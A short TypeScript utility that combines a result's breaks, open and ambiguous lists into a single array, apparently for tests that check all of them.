/** Every break in every list: for tests that say something of all of them. */
export const everyItem = (result: Result): Break[] => [...result.breaks, ...result.open, ...result.ambiguous];
